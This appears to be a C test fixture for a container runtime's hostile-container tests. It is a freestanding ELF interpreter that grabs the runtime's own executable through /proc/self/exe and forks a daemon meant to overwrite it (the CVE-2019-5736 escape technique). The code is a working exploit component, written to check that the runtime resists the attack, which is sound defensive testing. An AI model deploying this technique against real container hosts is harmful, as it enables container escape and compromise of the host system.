/* SPDX-License-Identifier: Apache-2.0 */
/*
 * loader.c - the ELF interpreter a hostile container plants at the path
 * nsboot's binary names as its interpreter (PT_INTERP), for tests/hostile.
 *
 * It runs only when a dynamically linked program is executed inside the
 * container; the container's own programs are all static, so in these tests
 * it runs only when nsboot's binary is executed in there (a /bin/sh that
 * links to /proc/self/exe, a #!/proc/self/exe script, ...). Then:
 *   - it opens /proc/self/exe O_PATH (the program being run),
 *   - appends "loader pid=P exe=LINK dev=D ino=I" to LOG,
 *   - forks a daemon that execs "/hostile/agent writer FD LOG": a process
 *     whose own executable is not nsboot's, holding the O_PATH fd, that
 *     retries opening it for writing until nsboot's binary is no longer
 *     busy, and then writes a marker into it (CVE-2019-5736),
 *   - and exits 0.
 *
 * Freestanding (no libc, raw syscalls): glibc's static startup does not
 * work as an interpreter. Built with -nostdlib -static -ffreestanding.
 */

#define LOG "/tmp/hostile/exe.log"

#define SYS_write      1
#define SYS_open       2
#define SYS_close      3
#define SYS_fstat      5
#define SYS_getpid     39
#define SYS_fork       57
#define SYS_execve     59
#define SYS_readlink   89
#define SYS_setsid     112
#define SYS_exit_group 231

#define O_WRONLY  01
#define O_CREAT   0100
#define O_APPEND  02000
#define O_CLOEXEC 02000000
#define O_PATH    010000000

static long sys3(long n, long a, long b, long c)
{
	long ret;
	__asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return ret;
}

/* gcc may emit calls to these even with -ffreestanding */
void *memset(void *d, int c, unsigned long n);
void *memcpy(void *d, const void *s, unsigned long n);

void *memset(void *d, int c, unsigned long n)
{
	unsigned char *p = d;
	while (n-- > 0)
		*p++ = (unsigned char)c;
	return d;
}

void *memcpy(void *d, const void *s, unsigned long n)
{
	unsigned char *p = d;
	const unsigned char *q = s;
	while (n-- > 0)
		*p++ = *q++;
	return d;
}

struct buf {
	char b[1024];
	unsigned long n;
};

static void put(struct buf *o, const char *s)
{
	while (*s != '\0' && o->n < sizeof(o->b) - 1)
		o->b[o->n++] = *s++;
}

static void put_num(struct buf *o, unsigned long v)
{
	char t[24];
	int i = 0;

	do {
		t[i++] = (char)('0' + v % 10);
		v /= 10;
	} while (v != 0);
	while (i > 0 && o->n < sizeof(o->b) - 1)
		o->b[o->n++] = t[--i];
}

static void num_str(char *t, unsigned long v)
{
	struct buf o;
	o.n = 0;
	put_num(&o, v);
	memcpy(t, o.b, o.n);
	t[o.n] = '\0';
}

void lmain(long *sp);

void lmain(long *sp)
{
	long argc = sp[0];
	char **envp = (char **)(sp + 1 + argc + 1);
	unsigned long st[18]; /* struct stat (x86-64): st_dev, st_ino first */
	char link[512];
	char fdnum[24];
	struct buf o;
	long fd, n, log;

	o.n = 0;
	fd = sys3(SYS_open, (long)"/proc/self/exe", O_PATH, 0);
	n = sys3(SYS_readlink, (long)"/proc/self/exe", (long)link, sizeof(link) - 1);
	link[n > 0 ? n : 0] = '\0';
	put(&o, "loader pid=");
	put_num(&o, (unsigned long)sys3(SYS_getpid, 0, 0, 0));
	put(&o, " exe=");
	put(&o, link);
	if (fd >= 0 && sys3(SYS_fstat, fd, (long)st, 0) == 0) {
		put(&o, " dev=");
		put_num(&o, st[0]);
		put(&o, " ino=");
		put_num(&o, st[1]);
	} else {
		put(&o, " open-failed");
	}
	put(&o, "\n");
	log = sys3(SYS_open, (long)LOG, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
	if (log >= 0) {
		sys3(SYS_write, log, (long)o.b, (long)o.n);
		sys3(SYS_close, log, 0, 0);
	}
	if (fd >= 0 && sys3(SYS_fork, 0, 0, 0) == 0) {
		char *argv[] = {"agent", "writer", fdnum, LOG, 0};
		num_str(fdnum, (unsigned long)fd);
		sys3(SYS_setsid, 0, 0, 0);
		/* not the command's stdio: whoever reads its output must not wait for us */
		for (long i = 0; i < 3; i++)
			sys3(SYS_close, i, 0, 0);
		sys3(SYS_execve, (long)"/hostile/agent", (long)argv, (long)envp);
		sys3(SYS_exit_group, 127, 0, 0);
	}
	sys3(SYS_exit_group, 0, 0, 0);
}

__asm__(".text\n"
        ".global _start\n"
        "_start:\n"
        "	mov %rsp, %rdi\n"
        "	and $-16, %rsp\n"
        "	call lmain\n"
        "	hlt\n");
